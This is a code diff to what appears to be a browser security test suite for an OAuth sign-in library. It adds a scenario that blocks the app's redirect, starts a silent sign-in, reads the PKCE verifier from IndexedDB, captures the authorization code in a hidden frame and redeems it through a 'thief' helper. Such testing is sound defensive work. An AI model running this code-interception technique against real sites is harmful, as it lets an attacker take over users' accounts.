@@ -1,5 +1,7 @@
 // What is stored.
-import { databases } from '../kit.mjs';
+import { databases, hiddenFrame, soon, transactionUnderWay } from '../kit.mjs';
+
+const REDIRECT = { closure: 'redirect', worker: 'redirect', shared: 'redirect' };
 
 /** Reads everything under a directory of the origin's private file system. */
 async function files(directory, record) {
@@ -52,23 +54,40 @@ export const storage = [
   },
   {
     id: 'storage-indexeddb-hooks',
-    title: 'replaces the methods of IndexedDB, and has the app leave for the provider',
+    title: 'replaces the methods of IndexedDB',
     when: 'both',
-    async run({ session, tap, record, victim, undo }) {
+    async run({ tap, victim }) {
       for (const name of ['put', 'add', 'get', 'getAll']) tap(IDBObjectStore.prototype, name);
       for (const name of ['open', 'databases']) tap(IDBFactory.prototype, name);
       tap(IDBRequest.prototype, 'result');
-      const app = await session();
+      await victim();
+    },
+  },
+  {
+    id: 'storage-transaction',
+    title:
+      'has the app leave for the provider and keeps it from leaving, reads the verifier from IndexedDB, and goes where the app was to go in a frame of its own',
+    when: 'both',
+    async run({ session, victim, undo, thief }) {
       await victim('fetch');
-      // The page would leave, and comes to a part of itself instead.
+      let url;
       const stay = (event) => {
-        record(event.destination.url);
+        url = event.destination.url;
         event.preventDefault();
       };
       navigation.addEventListener('navigate', stay);
       undo(() => navigation.removeEventListener('navigate', stay));
-      await Promise.race([app.signIn(), new Promise((resolve) => setTimeout(resolve, 400))]);
+      const app = await session();
+      app.signIn({ params: { prompt: 'none' } }).catch(() => {});
+      if (!(await soon(() => url))) return;
+      const { code_verifier, redirect_uri } =
+        (await soon(() => transactionUnderWay(new URL(url).searchParams.get('state')))) ?? {};
+      const frame = hiddenFrame(url, undo);
+      const code = await soon(() => new URLSearchParams(frame.contentWindow.location.search).get('code'), 4000);
+      frame.contentWindow.stop();
+      await thief.redeem(code, code_verifier, redirect_uri);
     },
+    lost: { after: REDIRECT, before: REDIRECT },
   },
   {
     id: 'storage-cookies',
